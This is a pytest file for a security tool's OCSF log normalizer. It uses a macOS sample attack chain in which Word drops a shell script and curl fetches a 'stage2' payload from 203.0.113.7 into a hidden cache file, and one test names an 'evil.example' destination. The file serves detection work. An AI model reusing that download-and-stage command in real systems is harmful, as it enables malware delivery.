"""Tests for the OCSF source, built from the OCSF 1.1 sample ``events/mac-02/ocsf.json``.

The sample holds, in time order: 0 launch of Microsoft Word by launchd, 1 launch of mdworker_shared (no
process uid), 2 Word creates ~/Library/Caches/x.sh, 3 Word spawns zsh running it, 4 the zsh fork execs curl
(launch type Exec), 5 curl opens 203.0.113.7:443, 6 curl terminates, 7 a DNS Activity (4003) record,
8 softwareupdated traffic to swscan.apple.com, 9 Safari sets a quarantine xattr on a download, 10 mdworker
reads it.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import orjson
import pytest

from chainwatch.errors import RecordError
from chainwatch.events import (
    Direction,
    FileAction,
    FileWrite,
    NetworkConnection,
    ProcessExec,
    ProcessExit,
    ProcessFork,
    RawRef,
    XattrAction,
    XattrChange,
)
from chainwatch.sources import Normalizer, detect_format, ocsf
from chainwatch.sources.reader import Record, read_path

REPO = Path(__file__).parents[3]
SAMPLE = REPO / "events" / "mac-02" / "ocsf.json"
ESLOGGER = Path(__file__).parent / "data" / "eslogger_mullvad.jsonl"
ECS_DIR = REPO / ".." / "shared" / "fixtures" / "elastic_macos_attack_dataset"
REF = RawRef("test", 1)
MS = 1_000_000

WORD, MDWORKER, CREATE, ZSH, CURL_EXEC, CURL_NET, CURL_EXIT, DNS, SWUPDATE, QUARANTINE, READ = range(11)


def _lines() -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in SAMPLE.read_bytes().splitlines()]


def _line(index: int) -> dict[str, Any]:
    return copy.deepcopy(_lines()[index])


def _map(doc: dict[str, Any], host: str = "fallback") -> Any:
    return ocsf.map_record(doc, REF, host)


def _one(doc: dict[str, Any]) -> Any:
    result = _map(doc)
    assert isinstance(result, list) and len(result) == 1, result
    return result[0]


# --- golden: the sample file --------------------------------------------------------------------------------


def test_ocsf_sample_file_normalizes_to_expected_kinds_and_skips() -> None:
    normalizer = Normalizer()
    events = list(normalizer.run(read_path(SAMPLE), "fallback"))
    stats = normalizer.stats
    assert stats.records == 11 and stats.rejected == 0
    assert dict(stats.events) == {
        ("ocsf", "process_exec"): 4, ("ocsf", "process_exit"): 1, ("ocsf", "file_write"): 1,
        ("ocsf", "network"): 2, ("ocsf", "xattr"): 1,
    }
    assert dict(stats.skipped) == {"ocsf:4003": 1, "ocsf:1001/2": 1}
    assert {event.host for event in events} == {"mac-02"}
    assert all(event.source.value == "ocsf" for event in events)


def test_ocsf_sample_chain_links_word_zsh_curl_and_egress_by_entity() -> None:
    lines = _lines()
    word = _one(lines[WORD]).target
    written = _one(lines[CREATE])
    zsh = _one(lines[ZSH]).target
    curl_exec = _one(lines[CURL_EXEC])
    egress = _one(lines[CURL_NET])

    assert isinstance(written, FileWrite) and written.action is FileAction.CREATE
    assert written.path == "/Users/alice/Library/Caches/x.sh"
    assert written.process is not None and written.process.entity_id == word.entity_id == "ocsf:1201:4821"

    assert zsh.executable == "/bin/zsh" and zsh.args == ("/bin/zsh", "/Users/alice/Library/Caches/x.sh")
    assert (zsh.ppid, zsh.parent_entity_id) == (1201, word.entity_id)
    assert zsh.parent_executable == "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"

    curl = curl_exec.target
    assert curl.executable == "/usr/bin/curl" and curl.entity_id == "ocsf:2215:9011"
    assert (curl.ppid, curl.parent_entity_id, curl.parent_executable) == (2210, zsh.entity_id, "/bin/zsh")
    assert curl.args == ("curl", "-fsSL", "https://203.0.113.7/stage2?id=mac-02", "-o",
                         "/Users/alice/Library/Caches/.s2")

    assert isinstance(egress, NetworkConnection)
    assert (egress.dst_ip, egress.dst_port, egress.protocol) == ("203.0.113.7", 443, "tcp")
    assert egress.direction is Direction.OUTBOUND
    assert (egress.src_ip, egress.src_port) == ("192.168.1.23", 52144)
    assert egress.process is not None and egress.process.entity_id == curl.entity_id
    assert egress.time_ns == lines[CURL_NET]["time"] * MS
    assert zsh.start_time_ns is not None
    assert written.time_ns < zsh.start_time_ns < egress.time_ns


def test_ocsf_sample_word_launch_keeps_executable_with_spaces_whole_and_team_id() -> None:
    event = _one(_line(WORD))
    assert isinstance(event, ProcessExec) and event.process is None
    word = event.target
    assert word.args == ("/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",)
    assert (word.ppid, word.parent_entity_id, word.parent_executable) == (1, "ocsf:1:1", "/sbin/launchd")
    assert (word.uid, word.user) == (501, "alice")
    assert word.signature is not None
    assert (word.signature.team_id, word.signature.signing_id) == ("UBF8T346G9", None)
    assert (word.signature.signed, word.signature.trusted) == (True, True)


def test_ocsf_sample_exec_launch_type_carries_pre_exec_image_as_process() -> None:
    event = _one(_line(CURL_EXEC))
    assert isinstance(event, ProcessExec)
    assert event.process is not None
    assert (event.process.pid, event.process.entity_id, event.process.executable) == (
        2215, "ocsf:2215:9010", "/bin/zsh")
    # The real parent is zsh 2210, never the pre-exec image of the same pid.
    assert event.target.ppid == 2210 and event.target.parent_entity_id == "ocsf:2210:9002"


def test_ocsf_sample_process_without_uid_gets_pid_at_start_entity() -> None:
    target = _one(_line(MDWORKER)).target
    created = _lines()[MDWORKER]["process"]["created_time"]
    assert target.entity_id == f"pid:1877@{created * MS}"
    assert target.start_time_ns == created * MS


def test_ocsf_sample_terminate_maps_exit_code() -> None:
    event = _one(_line(CURL_EXIT))
    assert isinstance(event, ProcessExit)
    assert event.process is not None and event.process.entity_id == "ocsf:2215:9011"
    assert (event.exit_status, event.signal) == (0, None)


def test_ocsf_sample_set_attributes_parses_quarantine() -> None:
    event = _one(_line(QUARANTINE))
    assert isinstance(event, XattrChange) and event.action is XattrAction.SET
    assert (event.path, event.name) == ("/Users/alice/Downloads/Firefox 130.0.dmg", "com.apple.quarantine")
    assert event.quarantine is not None
    assert (event.quarantine.flags, event.quarantine.agent) == (0x83, "Safari")
    assert event.quarantine.event_uuid == "A1C3E5F7-2B4D-4E6F-8A1B-3C5D7E9F0A2B"
    assert event.process is not None
    assert event.process.executable == "/Applications/Safari.app/Contents/MacOS/Safari"


def test_ocsf_sample_traffic_with_hostname_maps_connection() -> None:
    event = _one(_line(SWUPDATE))
    assert isinstance(event, NetworkConnection)
    assert (event.dst_ip, event.hostname, event.dst_port) == ("17.253.17.201", "swscan.apple.com", 443)
    assert event.process is not None and event.process.user == "root"


# --- process activity ---------------------------------------------------------------------------------------


def test_ocsf_spawn_without_parent_process_takes_parent_from_actor() -> None:
    doc = _line(ZSH)
    del doc["process"]["parent_process"]
    event = _one(doc)
    assert event.process is None
    assert (event.target.ppid, event.target.parent_entity_id) == (1201, "ocsf:1201:4821")


def test_ocsf_same_pid_without_launch_type_is_treated_as_exec() -> None:
    doc = _line(CURL_EXEC)
    del doc["launch_type_id"]
    del doc["process"]["parent_process"]
    event = _one(doc)
    assert event.process is not None and event.process.entity_id == "ocsf:2215:9010"
    # Parent comes from the pre-exec image's own parent, not from the pre-exec image.
    assert (event.target.ppid, event.target.parent_entity_id) == (2210, "ocsf:2210:9002")


def test_ocsf_fork_launch_type_maps_process_fork() -> None:
    doc = _line(ZSH)
    doc["launch_type_id"] = 2
    event = _one(doc)
    assert isinstance(event, ProcessFork)
    assert event.process is not None and event.process.pid == 1201
    assert event.child.pid == 2210


@pytest.mark.parametrize("activity", [3, 4, 5, 99])
def test_ocsf_other_process_activities_are_skipped_by_label(activity: int) -> None:
    doc = _line(ZSH)
    doc["activity_id"] = activity
    assert _map(doc) == f"ocsf:1007/{activity}"


def test_ocsf_activity_falls_back_to_type_uid() -> None:
    doc = _line(CURL_EXIT)
    del doc["activity_id"]
    assert doc["type_uid"] == 100702
    assert isinstance(_one(doc), ProcessExit)


def test_ocsf_without_activity_id_or_type_uid_raises_record_error() -> None:
    doc = _line(ZSH)
    del doc["activity_id"], doc["type_uid"]
    with pytest.raises(RecordError, match="activity_id"):
        _map(doc)


def test_ocsf_launch_without_pid_raises_record_error() -> None:
    doc = _line(ZSH)
    del doc["process"]["pid"]
    with pytest.raises(RecordError, match="no pid"):
        _map(doc)


def test_ocsf_process_without_uid_or_start_has_no_entity_id() -> None:
    doc = _line(ZSH)
    del doc["process"]["uid"], doc["process"]["created_time"]
    target = _one(doc).target
    assert target.entity_id is None and target.pid == 2210


def test_ocsf_created_time_dt_gives_start_when_created_time_missing() -> None:
    doc = _line(MDWORKER)
    del doc["process"]["created_time"]
    doc["process"]["created_time_dt"] = "2025-09-18T13:58:05.002Z"
    assert _one(doc).target.entity_id == "pid:1877@1758203885002000000"


def test_ocsf_explicit_args_list_wins_over_cmd_line() -> None:
    doc = _line(ZSH)
    doc["process"]["args"] = ["zsh", "-c", "echo a b"]
    assert _one(doc).target.args == ("zsh", "-c", "echo a b")
    doc = _line(ZSH)
    doc["unmapped"] = {"process.args": ["zsh", "x y"]}
    assert _one(doc).target.args == ("zsh", "x y")


@pytest.mark.parametrize(("cmd_line", "expected"), [
    ("osascript -e 'display dialog \"hi\"'", ("osascript", "-e", 'display dialog "hi"')),
    ("sh -c 'unterminated", ("sh", "-c", "'unterminated")),
    ("python3\t-c  print(1)", ("python3", "-c", "print(1)")),
    ("", ()),
])
def test_ocsf_cmd_line_split_shell_style_with_fallback(cmd_line: str, expected: tuple[str, ...]) -> None:
    doc = _line(ZSH)
    doc["process"]["cmd_line"] = cmd_line
    assert _one(doc).target.args == expected


def test_ocsf_invalid_signature_state_is_untrusted() -> None:
    doc = _line(WORD)
    doc["process"]["file"]["signature"]["state_id"] = 6
    signature = _one(doc).target.signature
    assert signature is not None and (signature.trusted, signature.team_id) == (False, "UBF8T346G9")
    del doc["process"]["file"]
    assert _one(doc).target.signature is None


# --- file system activity -----------------------------------------------------------------------------------


def test_ocsf_create_joins_parent_folder_and_name_without_path() -> None:
    doc = _line(CREATE)
    del doc["file"]["path"]
    doc["file"]["parent_folder"] = "/Users/alice/Library/Caches/"
    assert _one(doc).path == "/Users/alice/Library/Caches/x.sh"


def test_ocsf_update_maps_close_modified() -> None:
    doc = _line(CREATE)
    doc["activity_id"] = 3
    event = _one(doc)
    assert isinstance(event, FileWrite) and event.action is FileAction.CLOSE_MODIFIED


def test_ocsf_rename_maps_destination_and_source() -> None:
    doc = _line(CREATE)
    doc["activity_id"] = 5
    doc["file"]["path"] = "/Users/alice/Library/Caches/.x.sh.tmp"
    doc["file_result"] = {"name": "x.sh", "parent_folder": "/Users/alice/Library/Caches", "type_id": 1}
    event = _one(doc)
    assert event.action is FileAction.RENAME
    assert (event.source_path, event.path) == ("/Users/alice/Library/Caches/.x.sh.tmp",
                                               "/Users/alice/Library/Caches/x.sh")


def test_ocsf_rename_without_file_result_raises_record_error() -> None:
    doc = _line(CREATE)
    doc["activity_id"] = 5
    with pytest.raises(RecordError, match="file_result"):
        _map(doc)


def test_ocsf_set_attributes_yields_one_event_per_xattr() -> None:
    doc = _line(QUARANTINE)
    doc["file"]["xattributes"]["com.apple.metadata:kMDItemWhereFroms"] = "bplist00..."
    events = _map(doc)
    assert [(e.name, e.quarantine is not None) for e in events] == [
        ("com.apple.quarantine", True), ("com.apple.metadata:kMDItemWhereFroms", False)]


@pytest.mark.parametrize("xattributes", [None, {}, ["com.apple.quarantine"]])
def test_ocsf_set_attributes_without_xattributes_is_skipped(xattributes: Any) -> None:
    doc = _line(QUARANTINE)
    doc["file"]["xattributes"] = xattributes
    assert _map(doc) == "ocsf:1001/6(no xattributes)"


@pytest.mark.parametrize("activity", [2, 4, 14])
def test_ocsf_other_file_activities_are_skipped_by_label(activity: int) -> None:
    doc = _line(CREATE)
    doc["activity_id"] = activity
    assert _map(doc) == f"ocsf:1001/{activity}"


def test_ocsf_create_without_any_path_raises_record_error() -> None:
    doc = _line(CREATE)
    doc["file"] = {"name": "x.sh", "type_id": 1}
    with pytest.raises(RecordError, match="no file path"):
        _map(doc)


# --- network activity ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("connection_info", "expected"), [
    ({"direction_id": 1}, Direction.INBOUND),
    ({"direction_id": 2}, Direction.OUTBOUND),
    ({"direction_id": 3}, Direction.UNKNOWN),
    ({"direction_id": 0}, Direction.UNKNOWN),
    ({"direction_id": 99, "direction": "Outbound"}, Direction.UNKNOWN),
    ({"direction": "Outbound"}, Direction.OUTBOUND),
    ({}, Direction.UNKNOWN),
])
def test_ocsf_direction_id_maps_to_direction(connection_info: dict[str, Any], expected: Direction) -> None:
    doc = _line(CURL_NET)
    doc["connection_info"] = connection_info
    assert _one(doc).direction is expected


@pytest.mark.parametrize("activity", [4, 5, 6])
def test_ocsf_failed_refused_and_traffic_connections_are_mapped(activity: int) -> None:
    doc = _line(CURL_NET)
    doc["activity_id"] = activity
    event = _one(doc)
    assert event.dst_ip == "203.0.113.7" and event.direction is Direction.OUTBOUND


@pytest.mark.parametrize("activity", [2, 3, 7])
def test_ocsf_close_reset_listen_are_skipped_by_label(activity: int) -> None:
    doc = _line(CURL_NET)
    doc["activity_id"] = activity
    assert _map(doc) == f"ocsf:4001/{activity}"


def test_ocsf_hostname_from_domain_and_protocol_from_number() -> None:
    doc = _line(CURL_NET)
    doc["dst_endpoint"] = {"domain": "evil.example", "port": 8443}
    doc["connection_info"] = {"protocol_num": 17, "direction_id": 2}
    event = _one(doc)
    assert (event.dst_ip, event.hostname) == (None, "evil.example")
    assert (event.dst_port, event.protocol) == (8443, "udp")


def test_ocsf_connection_without_destination_raises_record_error() -> None:
    doc = _line(CURL_NET)
    doc["dst_endpoint"] = {"port": 443}
    with pytest.raises(RecordError, match="dst_endpoint"):
        _map(doc)


# --- time, host, classes, detection -------------------------------------------------------------------------


def test_ocsf_missing_time_is_rejected_by_normalizer() -> None:
    doc = _line(CURL_NET)
    del doc["time"]
    with pytest.raises(RecordError, match="no 'time'"):
        _map(doc)
    normalizer = Normalizer()
    assert normalizer.normalize(Record(doc, REF), "h") == []
    assert normalizer.stats.rejected == 1


@pytest.mark.parametrize("bad", [True, "1758204192918", -5, 1e300, [1]])
def test_ocsf_invalid_time_raises_record_error(bad: Any) -> None:
    doc = _line(CURL_NET)
    doc["time"] = bad
    with pytest.raises(RecordError, match="time"):
        _map(doc)


def test_ocsf_float_time_and_time_dt_are_read() -> None:
    doc = _line(CURL_NET)
    doc["time"] = 1758204192918.5
    assert _one(doc).time_ns == 1758204192918500000
    del doc["time"]
    doc["time_dt"] = "2025-09-18T14:03:12.918Z"
    assert _one(doc).time_ns == 1758204192918000000


@pytest.mark.parametrize(("device", "expected"), [
    ({"hostname": "mac-02", "name": "n", "uid": "u"}, "mac-02"),
    ({"name": "n", "uid": "u"}, "n"),
    ({"hostname": "", "uid": "u"}, "u"),
    ({}, "fallback"),
    ("mac-02", "fallback"),
])
def test_ocsf_host_from_device_then_argument(device: Any, expected: str) -> None:
    doc = _line(CURL_NET)
    doc["device"] = device
    assert _one(doc).host == expected


@pytest.mark.parametrize("class_uid", [2004, 4003, 3002, 6003])
def test_ocsf_unknown_class_is_skipped_by_label_without_time(class_uid: int) -> None:
    doc = _line(DNS)
    doc["class_uid"] = class_uid
    del doc["time"]
    assert _map(doc) == f"ocsf:{class_uid}"


def test_ocsf_detect_accepts_sample_and_minimal_documents() -> None:
    assert all(ocsf.detect(doc) for doc in _lines())
    assert all(detect_format(doc) is ocsf for doc in _lines())
    assert ocsf.detect({"class_uid": 1007, "category_uid": 1})
    assert not ocsf.detect({"class_uid": "1007", "metadata": {}})
    assert not ocsf.detect({"class_uid": 1007})


def test_ocsf_detect_rejects_eslogger_ecs_and_unified_log_documents() -> None:
    eslogger_docs = [orjson.loads(line) for line in ESLOGGER.read_bytes().splitlines()]
    unified = {"timestamp": "2025-09-18 16:03:11.204117+0200", "eventMessage": "x", "messageType": "Default",
               "processImagePath": "/usr/libexec/syspolicyd", "subsystem": "com.apple.syspolicy",
               "category": "default", "eventType": "logEvent", "machTimestamp": 1, "traceID": 2}
    ecs_metadata = {"@timestamp": "2021-01-13T10:36:57.26707Z", "event": {"category": ["process"]},
                    "metadata": {"x": 1}, "ecs": {"version": "1.5.0"}}
    docs = [*eslogger_docs, unified, ecs_metadata]
    ecs_file = ECS_DIR / "execution_scripting_jxa_osascript_apfell_dwnld.json"
    if ecs_file.exists():
        docs += [item.data for item in read_path(ecs_file) if isinstance(item, Record)]
    assert len(docs) >= 5
    assert not any(ocsf.detect(doc) for doc in docs)


# --- hostile input ------------------------------------------------------------------------------------------


def _set(path: str, value: Any, base: int) -> dict[str, Any]:
    doc = _line(base)
    *parents, last = path.split(".")
    node = doc
    for key in parents:
        node = node[key]
    node[last] = value
    return doc


@pytest.mark.parametrize(("base", "path", "value", "outcome"), [
    (ZSH, "process", "curl", "rejected"),
    (ZSH, "process.pid", "abc", "rejected"),
    (ZSH, "process.parent_process", [1, 2], "mapped"),
    (ZSH, "process.file", "x", "mapped"),
    (ZSH, "process.user", {"uid": ["501"]}, "mapped"),
    (ZSH, "process.cmd_line", {"a": 1}, "mapped"),
    (ZSH, "process.uid", {"nested": True}, "mapped"),
    (ZSH, "actor", [], "mapped"),
    (ZSH, "launch_type_id", [3], "mapped"),
    (ZSH, "activity_id", [1], "mapped"),  # falls back to type_uid
    (ZSH, "activity_id", None, "mapped"),
    (ZSH, "type_uid", None, "mapped"),
    (CURL_EXIT, "exit_code", "zero", "mapped"),
    (CREATE, "file", 5, "rejected"),
    (CREATE, "file.path", ["/x"], "mapped"),  # falls back to parent_folder + name
    (CREATE, "actor", {"process": "Word"}, "mapped"),
    (QUARANTINE, "file.xattributes", {"com.apple.quarantine": {"v": 1}}, "mapped"),
    (CURL_NET, "dst_endpoint", ["203.0.113.7"], "rejected"),
    (CURL_NET, "dst_endpoint.port", {"p": 443}, "mapped"),
    (CURL_NET, "connection_info", "tcp", "mapped"),
    (CURL_NET, "connection_info.direction_id", [2], "mapped"),
    (CURL_NET, "connection_info.protocol_num", [6], "mapped"),
    (CURL_NET, "class_uid", "4001", "rejected"),
    (CURL_NET, "metadata", None, "mapped"),
])
def test_ocsf_wrong_types_never_crash(base: int, path: str, value: Any, outcome: str) -> None:
    doc = _set(path, value, base)
    normalizer = Normalizer(forced_format=ocsf.FORMAT)
    events = normalizer.normalize(Record(doc, REF), "h")
    stats = normalizer.stats
    got = "rejected" if stats.rejected else ("mapped" if events else "skipped")
    assert got == outcome, (stats.to_dict(), events)


def test_ocsf_non_object_record_raises_record_error() -> None:
    with pytest.raises(RecordError, match="not an object"):
        ocsf.map_record([1, 2], REF, "h")  # type: ignore[arg-type]
